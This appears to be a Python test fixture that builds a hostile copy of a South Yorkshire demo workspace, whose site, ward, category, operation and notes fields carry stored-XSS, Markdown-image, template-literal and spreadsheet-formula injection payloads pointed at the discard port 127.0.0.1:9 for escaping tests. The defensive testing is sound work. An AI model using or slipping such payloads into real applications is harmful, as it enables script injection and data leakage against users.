"""A copy of the South Yorkshire demo workspace whose names carry the attacks of issue 10.

Used by ``tests/test_app_escaping.py`` (AppTest) and ``tests/browser/test_escaping.py``
(Chromium). Every payload calls home to ``127.0.0.1:9`` (the discard port: nothing
listens), so a browser test can assert that no request went there.
"""
from __future__ import annotations

import shutil
import sqlite3
from dataclasses import replace
from pathlib import Path

#: The review's stored-XSS site name (JavaScript template literal), plus an HTML payload.
SITE = ("Pharmacy ${fetch('http://127.0.0.1:9/site?'+document.title)} "
        "<img src=x onerror=\"fetch('http://127.0.0.1:9/site-img')\">")
#: The confirmed Markdown attack in the workspace name.
WORKSPACE = "South Yorkshire ![x](http://127.0.0.1:9/workspace.png) :red[alert]"
#: The confirmed Markdown attack in a (calls) category on the harm page.
CATEGORY = "Drugs ![x](http://127.0.0.1:9/category.png)"
#: An operation name with Markdown, HTML, and matplotlib mathtext that does not parse.
OPERATION = "Op *Beighton* ![x](http://127.0.0.1:9/op.png) <img src=x onerror=alert(1)> $\\frac{1}$"
#: A ward name with HTML.
WARD = "Ward <img src=x onerror=\"fetch('http://127.0.0.1:9/ward')\"> `${1}`"
#: A neighbouring BCU (Rotherham, next to Op Beighton) named with a spreadsheet formula.
BCU = "=HYPERLINK(\"http://127.0.0.1:9/bcu\",\"Rotherham\")"
BCU_CODE = "E08000018"
#: Notes starting with a spreadsheet formula.
NOTES = "=HYPERLINK(\"http://127.0.0.1:9/notes\",\"click\")"

#: A demo school inside Op Beighton's catchment: the results map draws it (sensitive sites in the catchment).
FLAGGED_SITE = "Shortbrook Primary School"
OPERATION_ID = "demo-sy-beighton"


def make_hostile_workspace(demo_path: str | Path, folder: str | Path) -> Path:
    """Copy the South Yorkshire demo workspace into `folder` and give it hostile names."""
    from geo import Workspace

    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "south-yorkshire.gpkg"
    shutil.copy(demo_path, path)
    with sqlite3.connect(path) as db:  # as a hostile file import would have stored them
        n = db.execute("UPDATE sites SET name = ? WHERE name = ?", (SITE, FLAGGED_SITE)).rowcount
        assert n >= 1, f"the demo no longer has a site called {FLAGGED_SITE!r}"
        db.execute("UPDATE incidents SET category = ? WHERE fid IN "
                   "(SELECT fid FROM incidents WHERE layer = 'crime' ORDER BY fid LIMIT 3)", (CATEGORY,))
        db.execute("UPDATE boundaries SET name = ? WHERE level = 'bcu' AND code = ?", (BCU, BCU_CODE))
        db.execute("UPDATE boundaries SET name = ? WHERE fid = "
                   "(SELECT min(fid) FROM boundaries WHERE level = 'ward')", (WARD,))
    ws = Workspace.open(path)
    try:
        ws.set_setting("name", WORKSPACE)
        op = next(o for o in ws.operations() if o.op_id == OPERATION_ID)
        ws.save_operation(replace(op, name=OPERATION, notes=NOTES))
    finally:
        ws.close()
    return path
